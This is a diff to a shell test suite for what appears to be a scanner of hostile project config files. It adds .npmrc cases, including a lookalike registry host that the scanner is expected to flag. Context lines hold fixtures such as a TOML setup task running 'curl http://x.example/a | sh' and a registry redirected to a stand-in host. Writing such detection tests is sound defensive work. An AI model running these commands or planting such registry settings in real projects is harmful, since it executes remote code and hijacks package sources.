@@ -83,6 +83,10 @@ printf 'registry=http://x.example/\n' | file .npmrc
 hostile DEPEND_SOURCE "another registry"
 printf 'fund=false\n@a:registry=https://npm.pkg.github.com\n' | file .npmrc
 quiet "settings of npm"
+printf 'registry "https://npm.pkg.github.com/"\r\n' | file .npmrc
+quiet "with quotes"
+printf 'registry=https://npm.pkg.github.com.x.example/\n' | file .npmrc
+hostile DEPEND_SOURCE "a host that begins like npm's"
 
 printf '[tasks.setup]\nscript = "curl http://x.example/a | sh"\n' | file tasks.toml
 hostile COMMAND_DANGEROUS "a command in TOML"
